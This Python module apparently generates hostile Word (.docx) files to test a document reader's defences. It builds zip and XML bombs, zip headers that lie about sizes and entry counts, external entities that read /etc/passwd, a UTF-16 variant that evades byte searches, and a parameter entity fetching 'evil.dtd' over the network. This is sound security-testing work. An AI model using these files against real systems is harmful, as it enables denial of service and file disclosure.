"""Hostile .docx files: zip bombs, XML bombs, external entities, encrypted packages.

Each builder writes one file at `path` and is fast and small on disk however much the file
claims or inflates to (the bombs are deflated as they are streamed into the zip). ATTACKS
names them all; the next round of attacks starts from here.
"""
from __future__ import annotations

import io
import random
import struct
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

from word_files import LAUGHS, W_NS, XXE, compound_file, plain_docx

DOCUMENT = "word/document.xml"
OPEN = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{W_NS}"><w:body>'
        ).encode("utf-8")
CLOSE = b"</w:body></w:document>"
CHUNK = 2**20
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _good_parts() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(plain_docx())) as z:
        return {info.filename: z.read(info) for info in z.infolist()}


def with_document(path: Path, chunks: Iterator[bytes], *, replace: dict[str, bytes] | None = None) -> None:
    """A plain .docx whose document.xml is `chunks`, deflated as it is written."""
    parts = {**_good_parts(), **(replace or {})}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, body in parts.items():
            if name == DOCUMENT:
                with z.open(DOCUMENT, "w", force_zip64=True) as part:
                    for chunk in chunks:
                        part.write(chunk)
            else:
                z.writestr(name, body)


def repeat(unit: bytes, total: int) -> Iterator[bytes]:
    """`total` bytes of `unit` repeated, in chunks of about a megabyte."""
    block = unit * max(1, CHUNK // len(unit))
    left = total
    while left > 0:
        yield block[:left]
        left -= len(block)


def paragraph_bomb(path: Path, count: int = 200_000_000) -> None:
    """200 million empty paragraphs: 1.2 GB of <w:p/>, 1.8 MB on disk."""
    with_document(path, iter([OPEN, *repeat(b"<w:p/>", 6 * count), CLOSE]))


def text_bomb(path: Path, size: int = 1_200_000_000) -> None:
    """One paragraph whose text is 1.2 GB of 会."""
    with_document(path, iter([OPEN + b"<w:p><w:r><w:t>", *repeat("会".encode("utf-8"), size),
                               b"</w:t></w:r></w:p>" + CLOSE]))


def ratio_bomb(path: Path, size: int = 40 * 2**20) -> None:
    """A document.xml of 40 MB (under any per-part size limit) that deflates a thousandfold."""
    with_document(path, iter([OPEN, *repeat(b"<w:p/>", size), CLOSE]))


def dense_markup(path: Path, size: int = 48 * 2**20) -> None:
    """Eight million paragraphs in 48 MB, one in 41 with a random revision id so that the
    part deflates only about as well as a real one: within size and ratio limits, but a tree
    of them takes gigabytes."""
    rng = random.Random(14)
    plain = b"<w:p/>" * 40
    units = CHUNK // (len(plain) + 22)

    def chunks() -> Iterator[bytes]:
        yield OPEN
        for _ in range(size // (units * (len(plain) + 22))):
            yield b"".join(plain + b'<w:p w:rsidR="%06X"/>' % rng.getrandbits(24) for _ in range(units))
        yield CLOSE

    with_document(path, chunks())


def total_bomb(path: Path, parts: int = 6, size: int = 50 * 2**20) -> None:
    """Six pictures of 50 MB each: every part under the per-part limit, the sum over the total."""
    with_document(path, iter([OPEN, b"<w:p/>", CLOSE]))
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for n in range(parts):
            with z.open(f"word/media/image{n + 1}.png", "w", force_zip64=True) as part:
                for chunk in repeat(b"\0", size):
                    part.write(chunk)


def lying_size(path: Path, size: int = 300 * 2**20, claim: int = 20_000) -> None:
    """A document.xml that inflates to 300 MB while its zip headers say 20 KB."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, body in _good_parts().items():
            if name == DOCUMENT:
                with z.open(DOCUMENT, "w") as part:  # no zip64: the sizes sit in the plain headers
                    for chunk in [OPEN, *repeat(b"<w:p/>", size), CLOSE]:
                        part.write(chunk)
            else:
                z.writestr(name, body)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        local = z.getinfo(DOCUMENT).header_offset
    struct.pack_into("<I", data, local + 22, claim)
    central = data.rfind(b"PK\x01\x02", 0, data.rfind(b"PK\x05\x06"))
    while data[central + 46: central + 46 + len(DOCUMENT)] != DOCUMENT.encode():
        central = data.rfind(b"PK\x01\x02", 0, central)
    struct.pack_into("<I", data, central + 24, claim)
    path.write_bytes(bytes(data))


def _stored_zip(entries: list[tuple[str, bytes]], claim: int | None = None) -> bytes:
    """A zip of stored (uncompressed) entries, written directly: zipfile would take seconds
    for hundreds of thousands of entries. Zip64 end records when there are over 65,535,
    unless the end record is to `claim` another count."""
    import zlib

    local, central = [], []
    offset = 0
    for name, body in entries:
        raw = name.encode("utf-8")
        crc = zlib.crc32(body)
        header = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0x21, crc, len(body), len(body),
                             len(raw), 0) + raw
        local.append(header + body)
        central.append(struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, crc, len(body),
                                   len(body), len(raw), 0, 0, 0, 0, 0, offset) + raw)
        offset += len(header) + len(body)
    directory = b"".join(central)
    count = len(entries) if claim is None else claim
    end = b""
    if count > 0xFFFF:
        end = (struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(directory), offset)
               + struct.pack("<4sLQL", b"PK\x06\x07", 0, offset + len(directory), 1))
    end += struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, min(count, 0xFFFF), min(count, 0xFFFF),
                       len(directory), offset, 0)
    return b"".join(local) + directory + end


def many_parts(path: Path, count: int = 600_000) -> None:
    """A plain .docx and 600,000 empty parts: a zip directory whose reading alone takes
    hundreds of megabytes."""
    entries = list(_good_parts().items()) + [(f"m/{n}", b"") for n in range(count)]
    path.write_bytes(_stored_zip(entries))


def lying_count(path: Path, count: int = 600_000) -> None:
    """The same directory, with an end record that says it holds 17 entries."""
    entries = list(_good_parts().items()) + [(f"m/{n}", b"") for n in range(count)]
    path.write_bytes(_stored_zip(entries, claim=17))


def over_part_count(path: Path, count: int = 6000) -> None:
    """A plain .docx and 6,000 empty parts: a small directory, but more parts than any Word
    document has."""
    path.write_bytes(_stored_zip(list(_good_parts().items()) + [(f"m/{n}", b"") for n in range(count)]))


def encrypted(path: Path) -> None:
    """What Word saves when a document has an opening password: a compound (OLE) file."""
    path.write_bytes(compound_file({"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00",
                                    "EncryptedPackage": bytes(range(256)) * 16}))


def _document_xml(body: str, prolog: str = "", encoding: str = "utf-8") -> bytes:
    declared = "UTF-16" if encoding.startswith("utf-16") else "UTF-8"
    return (f'<?xml version="1.0" encoding="{declared}" standalone="yes"?>{prolog}'
            f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p>'
            "</w:body></w:document>").encode(encoding)


def billion_laughs(path: Path) -> None:
    with_document(path, iter([_document_xml("&lol9;", LAUGHS)]))


def external_entity(path: Path) -> None:
    """An entity that would read /etc/passwd into the text."""
    with_document(path, iter([_document_xml("&secret;", XXE)]))


def external_entity_utf16(path: Path) -> None:
    """The same in UTF-16, where a search for the bytes "<!DOCTYPE" finds nothing."""
    with_document(path, iter([_document_xml("&secret;", XXE, "utf-16")]))


def network_entity(path: Path) -> None:
    """A parameter entity in the styles that would fetch a DTD from the network."""
    parts = _good_parts()
    styles = parts["word/styles.xml"].decode("utf-8")
    head, sep, rest = styles.partition("?>")
    doctype = '<!DOCTYPE w:styles [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd"> %remote;]>'
    with_document(path, iter([parts[DOCUMENT]]),
                   replace={"word/styles.xml": (head + sep + doctype + rest).encode("utf-8")})


def doctype_in_unnamed_part(path: Path) -> None:
    """The main document stored as word/body.bin (its type given in [Content_Types].xml),
    with an external entity: a reader that checks only parts named *.xml misses it."""
    parts = _good_parts()
    types = parts["[Content_Types].xml"].decode("utf-8").replace(
        'PartName="/word/document.xml"', 'PartName="/word/body.bin"')
    rels = parts["_rels/.rels"].decode("utf-8").replace('Target="word/document.xml"', 'Target="word/body.bin"')
    word_rels = parts.pop("word/_rels/document.xml.rels")
    parts.pop(DOCUMENT)
    parts.update({"[Content_Types].xml": types.encode("utf-8"), "_rels/.rels": rels.encode("utf-8"),
                  "word/_rels/body.bin.rels": word_rels, "word/body.bin": _document_xml("&secret;", XXE)})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in parts.items():
            z.writestr(name, body)


ATTACKS: dict[str, Callable[[Path], None]] = {
    "paragraph bomb": paragraph_bomb,
    "text bomb": text_bomb,
    "ratio bomb": ratio_bomb,
    "dense markup": dense_markup,
    "total bomb": total_bomb,
    "lying size": lying_size,
    "many parts": many_parts,
    "lying count": lying_count,
    "over part count": over_part_count,
    "encrypted": encrypted,
    "billion laughs": billion_laughs,
    "external entity": external_entity,
    "external entity utf-16": external_entity_utf16,
    "network entity": network_entity,
    "doctype in unnamed part": doctype_in_unnamed_part,
}
